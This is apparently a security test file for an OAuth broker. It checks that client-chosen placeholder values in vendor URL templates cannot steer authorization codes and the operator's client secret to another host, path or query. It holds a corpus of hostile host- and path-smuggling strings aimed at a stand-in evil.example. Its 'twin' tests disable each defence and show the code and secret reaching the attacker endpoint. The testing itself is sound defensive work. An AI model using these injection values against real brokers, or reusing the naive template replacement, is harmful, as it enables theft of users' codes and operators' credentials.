/**
 * Attacker: a client of the broker, with the values it may choose for the {placeholders} of a
 * vendor that the operator has configured. Goal: users, their codes and the operator's secret at
 * another host, on another path, or with another query. Defence: a value fills exactly its gap
 * (expandTemplate), a host stays below the ends that the entry pins (suffix), and where a value could
 * fill a whole domain the vendor gets its own callback path and never the operator's credentials
 * (fillsRegistrableDomain).
 */
import type { FakeVendor } from "@oauth-broker/simulators";
import type { PlaceholderSpecs } from "@oauth-broker/oauth-core/protocol";
import * as placeholdersModule from "../../packages/oauth-core/src/protocol/placeholders.ts";
import { describe, expect, it } from "vitest";
import { basicSentTo, CALLBACK, EVIL, ownerOfCode, vendorAt, VENDOR_CLIENT } from "./support/names.ts";
import { without } from "./support/outcomes.ts";
import { openScene } from "./support/actors.ts";

const withoutSuffix = (specs: PlaceholderSpecs): PlaceholderSpecs =>
  Object.fromEntries(
    Object.entries(specs).map(([name, spec]) => {
      const { suffix: _, ...open } = spec;
      return [name, open];
    }),
  );

async function setUp(entry: object) {
  const evil = vendorAt(EVIL, { sendsIss: false });
  return { evil, ...(await openScene({ vendors: [evil], entries: { honest: { name: "Honest", ...entry } } })) };
}

const TENANT = {
  authorization_endpoint: "https://{tenant}.honest.example/authorize",
  token_endpoint: "https://{tenant}.honest.example/token",
  // Else the broker's credentials would be used at no tenant (tenant-host.attack.test.ts).
  clients_of: "vendor",
  placeholders: { tenant: {} },
};

/** Values that would lead elsewhere, or to another page, if they passed. */
const CORPUS: readonly string[] = [
  String.raw`evil.example/ evil.example? evil.example# evil.example\ evil.example:443/ x@evil.example/ evil.example%2f
    evil.example%00 evil%2eexample evil。example //evil.example / \ . .. ../.. %2e%2e a/b a\b a?b a#b a&b=c a;b a:b a@b
    blue%23 blue%3f blue%2F blue%5c blue;evil blue|x blue'x blue"x <blue>`.split(/\s+/),
  ["evil.example\u2215", "evil.example\u3002", "blue`x`", "\ud800"],
  ["a.b", "a.", ".a", "-a", "a-", "a_b", "a b", " a", "a ", "a\tb", "a\nb", "a\u0000b", "a\u00adb", "a\u200bb"],
  ["A", "BLUE", "blüe", "ⓑlue", "xn--", "{tenant}", "{}", "$1", "$&", "a".repeat(64), "blue,red", "[::1]", "0x7f"],
].flat();
/** But a label below the vendor's own domain. */
const FITS_HOST: ReadonlySet<string> = new Set(["0x7f"]);

/**
 * The attacker's goal at their token endpoint: the victim's code, and the secret of the operator's
 * client.
 */
function expectAllOf(vendor: FakeVendor): void {
  expect(ownerOfCode(vendor.tokenRequests[0]?.form.get("code"))).toBe("victim");
  expect(basicSentTo(vendor)).toContain(VENDOR_CLIENT.clientSecret);
}

describe("X-2 a placeholder value that is more than its gap", () => {
  it("bar#XA-2 does not move the host", async () => {
    const { backend, fixture } = await setUp(TENANT);
    for (const tenant of CORPUS) {
      const { status, body } = await backend.par({ placeholders: JSON.stringify({ tenant }) });
      const expected = FITS_HOST.has(tenant) ? [201, undefined] : [400, "invalid_request"];
      expect([status, body["error"]], JSON.stringify(tenant)).toEqual(expected);
    }
    expect(fixture.outbound).toEqual([]);
  });

  it("does not move path or query: the result has the shape of the template, or there is none", async () => {
    const { backend } = await setUp({
      authorization_endpoint: "https://blue.honest.example/{realm}/authorize?audience={audience}",
      token_endpoint: "https://blue.honest.example/{realm}/token",
      placeholders: { realm: { default: "main" }, audience: { default: "api" } },
    });
    const explain = async (values: object) =>
      (await backend.post("/v1/explain", { vendor: "honest", placeholders: JSON.stringify(values) })).body;
    let accepted = 0;
    for (const value of CORPUS) {
      for (const name of ["realm", "audience"]) {
        const { error, endpoints } = (await explain({ [name]: value })) as {
          error?: string;
          endpoints?: { authorization_endpoint: string; token_endpoint: string };
        };
        if (endpoints === undefined) {
          expect(error).toBe("invalid_request");
          continue;
        }
        accepted += 1;
        const [url, token] = [new URL(endpoints.authorization_endpoint), new URL(endpoints.token_endpoint)];
        expect([url.origin, token.origin]).toEqual(Array(2).fill("https://blue.honest.example"));
        expect(url.pathname).toMatch(/^\/[\w.~-]+\/authorize$/);
        expect(token.href).toMatch(/^https:\/\/blue\.honest\.example\/[\w.~-]+\/token$/);
        expect([...url.searchParams]).toEqual([["audience", name === "audience" ? value : "api"]]);
        expect(url.hash).toBe("");
      }
    }
    // In a query any text is allowed.
    expect(accepted).toBeGreaterThan(20);
  });

  it("X-2 twin: without expandTemplate code and secret are at the evil endpoint", async () => {
    const { backend, victim, evil } = await setUp(TENANT);
    // Simple replacement, as most templates are filled.
    without(placeholdersModule, () => ({
      expandTemplate: (template, values, specs) =>
        template.replace(/\{(\w+)\}/g, (_, name: string) => values[name] ?? specs[name]?.default ?? ""),
    }));
    await backend.connect(victim, { placeholders: JSON.stringify({ tenant: "evil.example/token?" }) });
    expectAllOf(evil);
  });
});

describe("X-2 a placeholder that can fill a whole domain", () => {
  const WHOLE = {
    authorization_endpoint: "https://{host}/authorize",
    token_endpoint: "https://{host}/token",
    clients_of: "vendor",
    placeholders: { host: { kind: "host" } },
  };
  const FORM = { placeholders: JSON.stringify({ host: "evil.example" }) };

  it("bar#XA-2 never gets the operator's credentials; with BYOC it has its own path", async () => {
    const { backend, fixture } = await setUp(WHOLE);
    expect(await backend.par(FORM)).toMatchObject({ status: 400, body: { error: "unauthorized_client" } });
    const { body } = await backend.post("/v1/explain", { vendor: "honest", ...FORM, vendor_client_id: "own" });
    expect(body["redirect_uri"]).toMatch(/\/v1\/custom\/[\w-]{22}\/callback$/);
    expect(fixture.outbound).toEqual([]);
  });

  it("X-2 twin: without fillsRegistrableDomain the evil endpoint gets the operator's secret", async () => {
    const { backend, victim, evil } = await setUp(WHOLE);
    without(placeholdersModule, () => ({ fillsRegistrableDomain: () => false }));
    await backend.connect(victim, FORM);
    expectAllOf(evil);
  });
});

describe("X-2 a host whose end the entry pins", () => {
  const PINNED = {
    authorization_endpoint: "https://{host}/authorize",
    token_endpoint: "https://{host}/token",
    clients_of: "vendor",
    placeholders: { host: { kind: "host", suffix: [".honest.example"] } },
  };
  const OUTSIDE = `evil.example honest.example evilhonest.example blue.honest.example.evil.example blue.honest.example.
    .honest.example evil.example/.honest.example evil.example#.honest.example evil.example\\.honest.example
    evil.example:443@blue.honest.example blue.HONEST.example evil.example%2f.honest.example
    evil.example\u3002.honest.example`.split(/\s+/);

  it("bar#XA-2 has no other: the refusal names the placeholder, and nothing is sent", async () => {
    const { backend, fixture } = await setUp(PINNED);
    for (const host of OUTSIDE) {
      expect(await backend.par({ placeholders: JSON.stringify({ host }) }), JSON.stringify(host)).toMatchObject({
        status: 400,
        body: { error: "invalid_request", error_description: expect.stringContaining("placeholder host") },
      });
    }
    expect(fixture.outbound).toEqual([]);
  });

  it("takes the operator's credentials and the shared callback below that end", async () => {
    const { backend } = await setUp(PINNED);
    const form = { vendor: "honest", placeholders: JSON.stringify({ host: "blue.honest.example" }) };
    expect((await backend.par(form)).status).toBe(201);
    expect((await backend.post("/v1/explain", form)).body["redirect_uri"]).toBe(CALLBACK);
  });

  it("X-2 twin: without the pinned end code and secret are at the evil endpoint", async () => {
    const { backend, victim, evil } = await setUp(PINNED);
    without(placeholdersModule, ({ expandTemplate }) => ({
      expandTemplate: (template, values, specs) => expandTemplate(template, values, withoutSuffix(specs)),
    }));
    await backend.connect(victim, { placeholders: JSON.stringify({ host: "evil.example" }) });
    expectAllOf(evil);
  });
});
